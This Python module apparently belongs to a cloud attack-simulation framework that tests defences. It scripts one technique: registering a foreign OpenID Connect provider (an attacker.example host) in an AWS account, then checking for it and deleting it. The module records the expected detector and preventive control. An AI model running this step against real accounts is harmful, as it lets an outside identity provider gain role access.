"""Register an identity provider of one's own: whoever it vouches for can be let into roles."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A foreign OpenID Connect provider is trusted",
    mitre=("T1484.002",),
    tactic="privilege-escalation",
    detectors=("GuardDuty Persistence:IAMUser/AnomalousBehavior",),
    expected=Prevented("sso-saml-idp-protect"),
    source="IAM API Reference, CreateOpenIDConnectProvider",
)


def prepare(stage: Stage) -> Scene:
    """Only the provider's host."""
    return {"host": f"{stage.name('login')}.attacker.example"}


def attack(stage: Stage, scene: Scene) -> None:
    """Register it."""
    stage.attacker().client("iam").create_open_id_connect_provider(
        Url=f"https://{scene['host']}", ClientIDList=["sts.amazonaws.com"], ThumbprintList=["a" * 40]
    )


def _arn(stage: Stage, scene: Scene) -> str:
    found = stage.owner().client("iam").list_open_id_connect_providers()["OpenIDConnectProviderList"]
    return next((one["Arn"] for one in found if one["Arn"].endswith(scene["host"])), "")


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The account lists it."""
    return bool(_arn(stage, scene))


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete it."""
    if arn := _arn(stage, scene):
        stage.owner().client("iam").delete_open_id_connect_provider(OpenIDConnectProviderArn=arn)
